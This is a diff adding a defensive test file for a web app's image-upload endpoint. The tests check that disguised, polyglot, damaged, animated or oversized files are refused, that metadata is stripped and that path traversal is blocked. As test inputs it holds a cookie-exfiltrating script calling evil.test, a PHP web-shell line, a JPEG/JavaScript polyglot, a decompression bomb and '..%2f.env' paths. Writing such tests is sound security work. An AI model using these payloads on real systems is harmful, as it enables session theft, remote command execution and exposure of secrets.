@@ -1,0 +1,297 @@
+/** Files that try to be something else, or too much. Each is refused in words that say why, and leaves nothing. */
+import { crc32, deflateSync } from 'node:zlib'
+import { request as httpRequest, type ClientRequest } from 'node:http'
+import sharp from 'sharp'
+import { beforeAll, beforeEach, expect, test, vi } from 'vitest'
+import { testApp, type TestApp } from '../testing/app.ts'
+import { menteeAccount } from '../testing/people.ts'
+import { signedIn, testServer, type Browser } from '../testing/server.ts'
+import { MEDIA_MESSAGES } from './mediaErrors.ts'
+import { UPLOAD_BYTES } from './upload.ts'
+
+let t: TestApp
+let url: string
+let member: Browser
+let jpeg: Buffer
+let png: Buffer
+let webp: Buffer
+
+beforeAll(async () => {
+  t = await testApp()
+  url = (await testServer(t.app)).url
+  member = await signedIn(url, 'mentee', (await menteeAccount(t.db)).email)
+  const picture = sharp({ create: { width: 60, height: 40, channels: 3, background: '#1d4fa0' } })
+  jpeg = await picture.clone().jpeg().toBuffer()
+  png = await picture.clone().png().toBuffer()
+  webp = await picture.clone().webp().toBuffer()
+})
+
+beforeEach(async () => {
+  await t.db.rateLimit.deleteMany()
+})
+
+const upload = (bytes: Buffer, type: string, who = member) =>
+  who.send<{ id: string; url: string; message?: string }>('POST', '/api/media', undefined, {
+    body: new Uint8Array(bytes),
+    headers: { 'content-type': type },
+  })
+
+/** One chunk of a PNG. */
+function chunk(name: string, data: Buffer): Buffer {
+  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
+  const named = Buffer.concat([Buffer.from(name), data])
+  length.writeUInt32BE(data.length)
+  sum.writeUInt32BE(crc32(named))
+  return Buffer.concat([length, named, sum])
+}
+
+/** A PNG that says it is this large, with whatever stands in it. */
+function pngOf(width: number, height: number, ...chunks: Buffer[]): Buffer {
+  const header = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0])
+  header.writeUInt32BE(width, 0)
+  header.writeUInt32BE(height, 4)
+  return Buffer.concat([png.subarray(0, 8), chunk('IHDR', header), ...chunks, chunk('IEND', Buffer.alloc(0))])
+}
+
+/** A segment of a JPEG, put behind its first two bytes. */
+function withSegment(bytes: Buffer, marker: number, text: string): Buffer {
+  const head = Buffer.from([0xff, marker, 0, 0])
+  head.writeUInt16BE(text.length + 2, 2)
+  return Buffer.concat([bytes.subarray(0, 2), head, Buffer.from(text, 'latin1'), bytes.subarray(2)])
+}
+
+const SCRIPT = '<script>fetch("//evil.test/"+document.cookie)</script>'
+const JAR = Buffer.concat([
+  Buffer.from('PK\x03\x04', 'latin1'),
+  Buffer.alloc(60),
+  Buffer.from('PK\x05\x06', 'latin1'),
+  Buffer.alloc(18),
+])
+const GIF = Buffer.from('R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==', 'base64')
+const many = (text: string, times: number) => Buffer.from(text.repeat(times))
+
+const CASES: [name: string, make: () => Buffer | Promise<Buffer>, type: string, what: keyof typeof MEDIA_MESSAGES][] = [
+  ['a page that says it is a picture', () => Buffer.from(`<!doctype html>${SCRIPT}`), 'image/png', 'choose'],
+  ['a PNG that says it is a JPEG', () => png, 'image/jpeg', 'otherKind'],
+  ['a JPEG that says it is WebP', () => jpeg, 'image/webp', 'otherKind'],
+  ['an SVG by its type', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'image/svg+xml', 'drawing'],
+  ['an SVG under a false name', () => Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), 'image/png', 'choose'],
+  ['a GIF', () => GIF, 'image/gif', 'choose'],
+  ['a GIF with an archive behind it', () => Buffer.concat([GIF, JAR]), 'image/jpeg', 'choose'],
+  ['nothing at all', () => Buffer.alloc(0), 'image/png', 'choose'],
+  ['a JPEG with a script behind it', () => Buffer.concat([jpeg, Buffer.from(SCRIPT)]), 'image/jpeg', 'carriesMore'],
+  ['a JPEG with a script in its comment', () => withSegment(jpeg, 0xfe, SCRIPT), 'image/jpeg', 'carriesMore'],
+  [
+    'a JPEG whose first segment is a comment of JavaScript',
+    () => Buffer.concat([withSegment(jpeg, 0xe0, '/*'), Buffer.from('*/=alert(1)/*')]),
+    'image/jpeg',
+    'carriesMore',
+  ],
+  ['a JPEG with an archive behind it', () => Buffer.concat([jpeg, JAR]), 'image/jpeg', 'carriesMore'],
+  [
+    'a JPEG with a second one and an archive behind it',
+    () => Buffer.concat([jpeg, jpeg, JAR]),
+    'image/jpeg',
+    'carriesMore',
+  ],
+  [
+    'a JPEG with the end of an archive in its comment',
+    () => withSegment(jpeg, 0xfe, 'PK\x05\x06'),
+    'image/jpeg',
+    'carriesMore',
+  ],
+  [
+    'a PNG with PHP behind it',
+    () => Buffer.concat([png, Buffer.from('<?php system($_GET[0]);')]),
+    'image/png',
+    'carriesMore',
+  ],
+  [
+    'a PNG with a page in its text',
+    () => pngOf(1, 1, chunk('tEXt', Buffer.from(`Comment\0<html >`))),
+    'image/png',
+    'carriesMore',
+  ],
+  ['a WebP with an archive behind it', () => Buffer.concat([webp, JAR]), 'image/webp', 'carriesMore'],
+  ['a picture that is a document too', () => withSegment(jpeg, 0xfe, '%PDF-1.7'), 'image/jpeg', 'carriesMore'],
+  ['half a JPEG', () => jpeg.subarray(0, jpeg.length / 2), 'image/jpeg', 'damaged'],
+  ['half a PNG', () => png.subarray(0, png.length / 2), 'image/png', 'damaged'],
+  ['half a WebP', () => webp.subarray(0, webp.length / 2), 'image/webp', 'damaged'],
+  ['a head without a picture', () => png.subarray(0, 8), 'image/png', 'damaged'],
+  ['a JPEG of a head and an end', () => Buffer.from([0xff, 0xd8, 0xff, 0xd9]), 'image/jpeg', 'damaged'],
+  ['a PNG whose picture is missing', () => pngOf(40, 40), 'image/png', 'damaged'],
+  ['a PNG whose picture is noise', () => pngOf(40, 40, chunk('IDAT', Buffer.alloc(200, 7))), 'image/png', 'damaged'],
+  ['a PNG of no width', () => pngOf(0, 40, chunk('IDAT', deflateSync(Buffer.alloc(40)))), 'image/png', 'damaged'],
+  [
+    'a PNG that moves',
+    () =>
+      pngOf(
+        1,
+        1,
+        chunk('acTL', Buffer.from([0, 0, 0x27, 0x10, 0, 0, 0, 0])),
+        chunk('IDAT', deflateSync(Buffer.alloc(2))),
+      ),
+    'image/png',
+    'animated',
+  ],
+  [
+    'a WebP that moves',
+    async () =>
+      sharp([jpeg, await sharp(jpeg).negate().toBuffer()], { join: { animated: true } })
+        .webp()
+        .toBuffer(),
+    'image/webp',
+    'animated',
+  ],
+  ['a page that says it is a document', () => Buffer.from(`<!doctype html>${SCRIPT}`), 'application/pdf', 'document'],
+  ['half a document', () => many('%PDF-1.7\n1 0 obj\n', 100), 'application/pdf', 'document'],
+]
+
+test.each(CASES)('%s is refused, and nothing is kept', async (_name, make, type, what) => {
+  const before = await t.db.media.count()
+  const { status, body } = await upload(await make(), type)
+  expect([status, body.message]).toEqual([415, MEDIA_MESSAGES[what]])
+  expect(await t.db.media.count()).toBe(before)
+})
+
+test.each(['text/html', 'application/octet-stream', 'multipart/form-data; boundary=x', 'application/zip'])(
+  'a body of the type %s is not read',
+  async (type) => {
+    expect(await upload(jpeg, type)).toMatchObject({ status: 415, body: { message: MEDIA_MESSAGES.choose } })
+  },
+)
+
+test('dimensions are looked at before anything is decoded', async () => {
+  // Were it decoded, it would be found damaged.
+  for (const [width, height] of [
+    [30_000, 30_000],
+    [2 ** 31 - 1, 1],
+    [24_000_001, 1],
+  ] as const) {
+    const { status } = await upload(pngOf(width, height, chunk('IDAT', Buffer.alloc(9))), 'image/png')
+    expect([width, status]).toEqual([
+      width,
+      width > 2 ** 24 ? expect.toSatisfy((code) => code === 422 || code === 415) : 422,
+    ])
+  }
+})
+
+test('text and colour profiles that unpack to hundreds of megabytes are not unpacked', async () => {
+  const zeros = deflateSync(Buffer.alloc(300 * 2 ** 20), { level: 9 })
+  const before = process.memoryUsage().rss
+  for (const [name, data] of [
+    ['zTXt', Buffer.concat([Buffer.from('Comment\0\0'), zeros])],
+    ['iCCP', Buffer.concat([Buffer.from('icc\0\0'), zeros])],
+  ] as const) {
+    const scan = deflateSync(Buffer.alloc(40 * 6))
+    const { status } = await upload(pngOf(40, 40, chunk(name, data), chunk('IDAT', scan)), 'image/png')
+    expect([200, 415]).toContain(status)
+  }
+  expect(process.memoryUsage().rss - before).toBeLessThan(200 * 2 ** 20)
+})
+
+test('what phones put behind a photo is left out, not refused', async () => {
+  const moving = Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from('ftypmp42'), Buffer.alloc(400, 3)])
+  const notes = Buffer.concat([Buffer.alloc(20, 1), Buffer.from('SEFT')])
+  for (const tail of [jpeg, Buffer.concat([Buffer.alloc(16), jpeg]), moving, notes, Buffer.alloc(64)]) {
+    const { status, body } = await upload(Buffer.concat([jpeg, tail]), 'image/jpeg')
+    expect([status, body.message]).toEqual([200, undefined])
+  }
+})
+
+test('place, time and camera are gone, in every size', async () => {
+  const photo = await sharp({ create: { width: 500, height: 450, channels: 3, background: '#285' } })
+    .jpeg()
+    .withExif({
+      IFD0: { Make: 'CanaryCam', Artist: 'Canary Artist' },
+      IFD3: {
+        GPSLatitudeRef: 'N',
+        GPSLatitude: '18/1 31/1 1234/100',
+        GPSLongitudeRef: 'E',
+        GPSLongitude: '73/1 51/1 0/1',
+      },
+    })
+    .toBuffer()
+  expect((await sharp(photo).metadata()).exif?.includes('CanaryCam')).toBe(true)
+  const { body } = await upload(
+    withSegment(photo, 0xe1, 'http://ns.adobe.com/xap/1.0/\0<x:xmpmeta>CanaryPlace</x:xmpmeta>'),
+    'image/jpeg',
+  )
+  for (const path of [body.url, ...[96, 200, 400].map((side) => `${body.url}/${side}`)]) {
+    const bytes = Buffer.from(await (await fetch(url + path)).arrayBuffer())
+    const { exif, xmp, icc, iptc, format } = await sharp(bytes).metadata()
+    expect([path, format, exif, xmp, icc, iptc]).toEqual([path, 'webp', undefined, undefined, undefined, undefined])
+    expect(bytes.includes('Canary')).toBe(false)
+  }
+})
+
+test('five megabytes are taken, one byte more is not, announced or not', async () => {
+  const full = Buffer.concat([jpeg, Buffer.alloc(UPLOAD_BYTES - jpeg.length)])
+  expect((await upload(full, 'image/jpeg')).status).toBe(200)
+  const over = Buffer.concat([full, Buffer.alloc(1)])
+  const message = 'File too large. Please choose one of at most 5 MB.'
+  expect(await upload(over, 'image/jpeg')).toMatchObject({ status: 413, body: { message } })
+  const pieces = new ReadableStream<Uint8Array>({
+    start(controller) {
+      for (let at = 0; at < over.length; at += 2 ** 20)
+        controller.enqueue(new Uint8Array(over.subarray(at, at + 2 ** 20)))
+      controller.close()
+    },
+  })
+  const streamed = await member.send('POST', '/api/media', undefined, {
+    body: pieces,
+    headers: { 'content-type': 'image/jpeg' },
+    duplex: 'half',
+  } as RequestInit)
+  expect(streamed).toMatchObject({ status: 413, body: { message } })
+})
+
+const PATIENT = { timeout: 10_000, interval: 100 }
+/** An upload that is begun and not ended. */
+function begin(length = jpeg.length): ClientRequest {
+  const { hostname, port } = new URL(url)
+  const cookie = [...member.cookies].map((pair) => pair.join('=')).join('; ')
+  const headers = { 'content-type': 'image/jpeg', 'content-length': length, cookie }
+  const sent = httpRequest({ hostname, port, path: '/api/media', method: 'POST', headers })
+  sent.on('error', () => {})
+  sent.write(jpeg.subarray(0, 40))
+  return sent
+}
+
+const answerOf = (sent: ClientRequest) =>
+  new Promise<number>((resolve) => sent.on('response', (response) => resolve(response.resume().statusCode ?? 0)))
+
+test('a slow upload is taken; one that is broken off leaves nothing, and gives its place back', async () => {
+  const rows = async () => [await t.db.media.count(), await t.db.mediaUpload.count(), await t.db.mediaSize.count()]
+  const before = await rows()
+  const begun = Array.from({ length: 4 }, () => begin())
+  // The places are taken before the body is read.
+  await vi.waitFor(async () => expect((await upload(png, 'text/html')).status).toBe(429), PATIENT)
+  const [slow, ...broken] = begun
+  for (const sent of broken) sent.destroy()
+  for (let at = 40; at < jpeg.length; at += 100) slow!.write(jpeg.subarray(at, at + 100))
+  expect(await rows()).toEqual(before)
+  const answered = answerOf(slow!)
+  slow!.end()
+  expect(await answered).toBe(200)
+  // All four are free again.
+  await vi.waitFor(async () => {
+    const again = await Promise.all(Array.from({ length: 4 }, () => upload(png, 'image/png')))
+    expect(again.map(({ status }) => status)).toEqual([200, 200, 200, 200])
+  }, PATIENT)
+})
+
+test('a path that leads elsewhere finds nothing', async () => {
+  const { body } = await upload(jpeg, 'image/jpeg')
+  for (const path of [
+    `${body.url}/97`,
+    `${body.url}/0`,
+    `${body.url}/..%2f..%2fetc`,
+    `/media/private/${body.id}`,
+    '/media/..%2f..%2f.env',
+    '/media/private/..%2f..%2f.env',
+    `/media/${body.id.toUpperCase()}`,
+    `/media/${body.id}%00`,
+  ])
+    expect([path, (await member.send('GET', path)).status]).toEqual([path, 404])
+})
